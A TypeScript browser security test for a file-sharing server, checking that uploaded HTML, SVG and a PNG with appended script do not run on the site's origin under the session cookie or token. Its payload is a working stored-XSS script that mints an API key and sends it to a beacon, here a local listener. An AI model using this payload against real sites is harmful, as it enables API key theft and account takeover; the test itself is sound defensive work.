import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { TOKEN_COOKIE } from '../../src/http/authentication.js';
import { PNG_1PX } from '../helpers/pdf.js';
import { aUser, withMail } from '../helpers/people.js';
import { upload } from '../helpers/server.js';
import { anExternalShare } from '../helpers/sharing.js';
import { useServer } from '../helpers/use-server.js';
import { hasChromium, launchChromium } from './browser.js';

/**
 * Issue 37, item 1, in the browser that would run it: as a signed-in user (session cookie, and the
 * token in the address), open every route that answers user bytes, with an HTML and an SVG payload
 * uploaded by each kind of uploader. The payload tries what the reported page did (mint an API key
 * and send it away, here to a listener of the test's own): nothing may reach the listener and no key
 * may be made.
 */
describe(
  'DESIGN, files answered to a browser: no uploaded script runs on our origin, in Chromium (issue 37, item 1)',
  {
    skip: hasChromium
      ? false
      : 'Debian’s chromium is not installed at /usr/bin/chromium: browser test skipped',
  },
  () => {
    const server = useServer({ smtp: true });
    let browser: Browser;
    let listener: Server;
    let heard = 0;
    let beacon = '';
    before(async () => {
      browser = await launchChromium();
      listener = createServer((_request, response) => {
        heard += 1;
        response.end('ok');
      });
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
      beacon = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/heard`;
    });
    after(async () => {
      await browser?.close();
      listener?.close();
    });

    const script = () =>
      `new Image().src=${JSON.stringify(beacon)};fetch("/api/v1/api/key",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:"{}"}).then(r=>r.text()).then(t=>fetch(${JSON.stringify(beacon)}+"?k="+encodeURIComponent(t),{mode:"no-cors"}))`;
    const payloads = () => [
      {
        name: 'page.html',
        type: 'text/html',
        bytes: Buffer.from(`<!doctype html><script>${script()}</script>`),
      },
      {
        name: 'image.svg',
        type: 'image/svg+xml',
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script()}</script></svg>`),
      },
      {
        name: 'stamp.png',
        type: 'text/html',
        bytes: Buffer.concat([PNG_1PX, Buffer.from(`<script>${script()}</script>`)]),
      },
    ];

    it('opened with the session cookie or with the token in the address, no uploaded HTML or SVG runs: nothing is heard, no key is made', async () => {
      const user = await aUser(server, withMail('victim'));
      const keysBefore = (await server.api('GET', '/api/key', { token: user.token })).text;
      // Every uploader kind and the route that answers its bytes: a user's own upload, a recipient's
      // file and a recipient's stamp.
      const urls: { url: string; token: string }[] = [];
      const shared = await anExternalShare(server, user.token, {
        title: 'Target',
        pdf: null,
        email: 'uploader@example.org',
        // The recipient attaches files (any bytes) to the document: the share right uploadFiles.
        recipient: { rights: ['uploadFiles'] },
      });
      for (const file of payloads()) {
        const own = await upload(server, user.token, file.bytes, { name: file.name, type: file.type });
        urls.push({ url: `/api/v1/files/loadFile/hash/${own}`, token: user.token });
        const theirs = await server.api('POST', '/share/upload/file', {
          token: shared.link,
          form: { fields: { attach: 'true' }, file },
        });
        assert.equal(theirs.status, 200, theirs.text);
        urls.push({ url: `/api/v1/files/loadFile/hash/${theirs.body.file.id}`, token: shared.link });
        const stamp = await server.api('POST', '/share/upload/stamp', {
          token: shared.link,
          form: { fields: { name: 'Seal' }, file },
        });
        if (stamp.status === 200)
          urls.push({ url: `/api/v1/share/stamp/${stamp.body.id}`, token: shared.link });
        else assert.equal(stamp.status, 400, stamp.text);
      }
      // A stamp must be a whole image (PNG bytes followed by a page are refused above): a real PNG
      // declared text/html is what a stamp route can still be asked to answer.
      const stamp = await server.api('POST', '/share/upload/stamp', {
        token: shared.link,
        form: { fields: { name: 'Seal' }, file: { name: 'stamp.html', type: 'text/html', bytes: PNG_1PX } },
      });
      assert.equal(stamp.status, 200, stamp.text);
      urls.push({ url: `/api/v1/share/stamp/${stamp.body.id}`, token: shared.link });
      assert.ok(urls.length >= 7, `${urls.length} routes`);

      const context = await browser.newContext();
      await context.addCookies([{ name: TOKEN_COOKIE, value: user.token, url: server.url }]);
      const page = await context.newPage();
      const opened: string[] = [];
      for (const { url, token } of urls) {
        for (const address of [`${server.url}${url}`, `${server.url}${url}?token=${token}`]) {
          // A file answered as an attachment is a download, which is no page: goto says so.
          const response = await page.goto(address).catch((error: Error) => error.message);
          opened.push(typeof response === 'string' ? response.split('\n')[0]! : String(response?.status()));
          await page.waitForTimeout(300);
        }
      }
      await context.close();
      assert.equal(heard, 0, `a payload ran: ${opened.join(', ')}`);
      assert.equal((await server.api('GET', '/api/key', { token: user.token })).text, keysBefore);
    });

    it('the test can fail: the same payload served as a page by the listener itself runs and is heard', async () => {
      const page = await browser.newPage();
      const before = heard;
      await page.setContent(`<script>new Image().src=${JSON.stringify(beacon)}</script>`);
      await page.waitForTimeout(300);
      await page.close();
      assert.ok(heard > before, 'the payload’s beacon works when script runs');
      heard = before;
    });
  },
);
